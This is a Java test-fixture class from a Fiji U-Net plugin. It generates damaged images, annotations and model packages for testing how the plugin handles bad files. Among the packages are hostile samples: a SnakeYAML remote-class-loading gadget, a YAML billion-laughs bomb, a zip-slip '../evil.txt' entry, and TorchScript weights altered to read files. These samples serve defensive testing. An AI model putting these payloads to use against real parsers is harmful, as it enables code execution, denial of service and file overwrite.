package sc.fiji.unet.commands;

import ij.IJ;
import ij.ImagePlus;
import ij.gui.NewImage;
import ij.gui.Roi;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import sc.fiji.unet.SmallModels;
import sc.fiji.unet.bioimageio.Npy;
import sc.fiji.unet.bioimageio.PackageEntries;
import sc.fiji.unet.imagej.RoiSets;
import sc.fiji.unet.library.ModelLibrary;
import sc.fiji.unet.model.Architecture;
import sc.fiji.unet.model.ModelDescription;
import sc.fiji.unet.model.PixelSize;

/** Files that something is wrong with, and the sound ones beside them. */
final class FaultyFiles {

  private static final Architecture SMALL = new Architecture(1, 1, 2, 1);

  private final Path folder;

  private FaultyFiles(Path folder) {
    this.folder = folder;
  }

  static void make(Path folder) throws IOException {
    FaultyFiles files = new FaultyFiles(folder);
    files.images();
    files.annotations();
    files.models();
  }

  private void images() throws IOException {
    ImagePlus ramp = NewImage.createByteImage("a", 64, 64, 1, NewImage.FILL_RAMP);
    save(ramp, "a.tif");
    save(ramp, "images/a.tif");
    save(ramp, "images/b.tif");
    Files.createDirectories(folder.resolve("empty"));
    byte[] png = encoded(ramp, "png");
    byte[] damaged = png.clone();
    Arrays.fill(damaged, 40, 60, (byte) 7);
    write("damaged.png", damaged);
    write("damaged/damaged.png", damaged);
    write("cut/cut.png", Arrays.copyOf(png, png.length / 2));
    write("text/text.tif", "no image".getBytes(StandardCharsets.UTF_8));
    write("zero/zero.tif", new byte[0]);
    byte[] jpeg = encoded(ramp, "jpg");
    write("jpeg/cut.jpg", Arrays.copyOf(jpeg, 300));
    byte[] gif = encoded(ramp, "gif");
    write("gif/cut.gif", Arrays.copyOf(gif, 20));
    write("zipped/zipped.tif", zip(Map.of("x", new byte[10])));
    byte[] tif = Files.readAllBytes(folder.resolve("a.tif"));
    write("cuttiff/cut.tif", Arrays.copyOf(tif, tif.length - 100));
    save(NewImage.createByteImage("large", 400, 400, 1, NewImage.FILL_RAMP), "large/a.tif");
    save(NewImage.createByteImage("flat", 64, 64, 1, NewImage.FILL_BLACK), "flat.tif");
  }

  private void annotations() throws IOException {
    ImagePlus labels = NewImage.createByteImage("labels", 64, 64, 1, NewImage.FILL_BLACK);
    save(labels, "black.tif");
    for (int i = 0; i < 2; i++) {
      labels.getProcessor().setValue(i + 1);
      labels.getProcessor().fill(new Roi(4 + 30 * i, 4, 20, 50));
    }
    save(labels, "labels.tif");
    ImagePlus fractions = labels.duplicate();
    IJ.run(fractions, "32-bit", "");
    fractions.getProcessor().multiply(1.5);
    save(fractions, "fractions.tif");
    ImagePlus map = NewImage.createFloatImage("map", 64, 64, 1, NewImage.FILL_RAMP);
    save(map, "probabilities.tif");
    save(NewImage.createByteImage("small", 32, 64, 1, NewImage.FILL_RAMP), "small.tif");
    save(NewImage.createByteImage("stack", 64, 64, 3, NewImage.FILL_BLACK), "stack.tif");
    ImagePlus three = IJ.createHyperStack("three", 64, 64, 3, 1, 1, 8);
    save(three, "three.tif");
    save(NewImage.createByteImage("row", 64, 1, 1, NewImage.FILL_RAMP), "row.tif");
    ImagePlus row = NewImage.createByteImage("row", 64, 1, 1, NewImage.FILL_BLACK);
    row.getProcessor().set(5, 0, 1);
    save(row, "rowlabels.tif");
    RoiSets.save(List.of(new Roi(100, 100, 5, 5)), folder.resolve("rois.zip"));
  }

  private void models() throws IOException {
    Path file = folder.resolve("own.zip");
    PackageEntries own = PackageEntries.own(SMALL, folder);
    byte[] whole = Files.readAllBytes(file);
    PackageEntries.own(new Architecture(2, 1, 2, 1), folder);
    Files.move(file, folder.resolve("two.zip"));
    write("own.zip", whole);
    ModelDescription description = SmallModels.description(SMALL);
    ModelLibrary.save(
        folder.resolve("micron.zip"),
        description.with(Optional.of(new PixelSize(1, 1))),
        SmallModels.weights(SMALL, 3),
        SmallModels.image(1, 40, 40, 1));
    write("zero.zip", new byte[0]);
    write("text.zip", "no zip".getBytes(StandardCharsets.UTF_8));
    write("cut.zip", Arrays.copyOf(whole, whole.length / 2));
    byte[] crc = whole.clone();
    crc[crc.length / 2] ^= 1;
    write("crc.zip", crc);
    write("weights.pt", own.files.get("weights.pt"));
    write("weights.onnx", new byte[100]);
    write("bioimageio.yaml", own.files.get("bioimageio.yaml"));
    write("noyaml.zip", zip(Map.of("weights.pt", new byte[10])));
    String yaml = new String(own.files.get("bioimageio.yaml"), StandardCharsets.UTF_8);
    yaml("badyaml.zip", "name: [a\nb: {");
    yaml("javayaml.zip", "!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://x\"]]");
    StringBuilder bomb = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
    for (int i = 1; i < 12; i++)
      bomb.append("a" + i + ": &a" + i + " [" + ("*a" + (i - 1) + ", ").repeat(9) + "x]\n");
    yaml("bombyaml.zip", bomb.toString());
    yaml("format.zip", yaml.replaceFirst("format_version: \\S+", "format_version: 0.9.0"));
    PackageEntries onnx = PackageEntries.foreign(SMALL, folder);
    onnx.at("weights").put("onnx", onnx.at("weights").remove("torchscript"));
    onnx.write(folder.resolve("onnx.zip"));
    PackageEntries.foreign(SMALL, folder).inVolumes().write(folder.resolve("volume.zip"));
    Map<String, byte[]> outside = new LinkedHashMap<>(own.files);
    outside.put("../evil.txt", new byte[3]);
    write("outside.zip", zip(outside));
    PackageEntries sha = PackageEntries.own(SMALL, folder);
    sha.files.get("weights.pt")[5000] ^= 1;
    sha.write(folder.resolve("sha.zip"));
    PackageEntries none = PackageEntries.own(SMALL, folder);
    none.files.remove("weights.pt");
    none.write(folder.resolve("noweights.zip"));
    PackageEntries inputs = PackageEntries.foreign(SMALL, folder);
    inputs.yaml().put("inputs", List.of(inputs.at("inputs", 0), inputs.at("inputs", 0)));
    inputs.write(folder.resolve("twoinputs.zip"));
    PackageEntries test = PackageEntries.own(SMALL, folder);
    Npy output = test.array("outputs");
    for (int i = 0; i < output.values().length; i++) output.values()[i] += 0.3f;
    test.array("outputs", output);
    test.write(folder.resolve("wrongtest.zip"));
    PackageEntries npy = PackageEntries.own(SMALL, folder);
    npy.files.put("test_input.npy", new byte[100]);
    npy.at("inputs", 0, "test_tensor").remove("sha256");
    npy.write(folder.resolve("npy.zip"));
    PackageEntries step = PackageEntries.foreign(SMALL, folder);
    step.at("inputs", 0).put("preprocessing", List.of(Map.of("id", "magic")));
    step.write(folder.resolve("step.zip"));
    PackageEntries.foreign(SMALL, folder).write(folder.resolve("foreign.zip"));
    weights("hostile.zip", files -> files.replaceAll(FaultyFiles::hostile));
    weights("numbersonly.zip", files -> files.keySet().removeIf(name -> name.endsWith(".py")));
    weights("halved.zip", files -> files.replaceAll(FaultyFiles::halved));
    write("own.zip", whole);
  }

  private static byte[] hostile(String name, byte[] bytes) {
    String text = new String(bytes, StandardCharsets.ISO_8859_1);
    return name.endsWith(".py")
        ? text.replaceFirst("torch\\.conv2d\\(", "torch.from_file(")
            .getBytes(StandardCharsets.ISO_8859_1)
        : bytes;
  }

  private static byte[] halved(String name, byte[] bytes) {
    return name.endsWith("data/0") ? Arrays.copyOf(bytes, bytes.length / 2) : bytes;
  }

  private interface Change {
    void make(Map<String, byte[]> files);
  }

  /** A model of others whose archive of weights is another one. */
  private void weights(String name, Change change) throws IOException {
    PackageEntries entries = PackageEntries.foreign(SMALL, folder);
    Map<String, byte[]> files = new LinkedHashMap<>();
    byte[] archive = entries.files.get("weights.pt");
    try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(archive))) {
      for (ZipEntry entry; (entry = zip.getNextEntry()) != null; )
        files.put(entry.getName(), zip.readAllBytes());
    }
    change.make(files);
    entries.files.put("weights.pt", zip(files));
    entries.at("weights", "torchscript").remove("sha256");
    entries.write(folder.resolve(name));
  }

  private void yaml(String name, String text) throws IOException {
    write(name, zip(Map.of("bioimageio.yaml", text.getBytes(StandardCharsets.UTF_8))));
  }

  private void save(ImagePlus image, String name) throws IOException {
    Files.createDirectories(folder.resolve(name).getParent());
    IJ.saveAsTiff(image, folder.resolve(name).toString());
  }

  private void write(String name, byte[] bytes) throws IOException {
    Files.createDirectories(folder.resolve(name).getParent());
    Files.write(folder.resolve(name), bytes);
  }

  private static byte[] encoded(ImagePlus image, String format) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    ImageIO.write(image.getProcessor().getBufferedImage(), format, out);
    return out.toByteArray();
  }

  private static byte[] zip(Map<String, byte[]> files) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      for (Map.Entry<String, byte[]> file : files.entrySet()) {
        zip.putNextEntry(new ZipEntry(file.getKey()));
        zip.write(file.getValue());
      }
    }
    return bytes.toByteArray();
  }
}
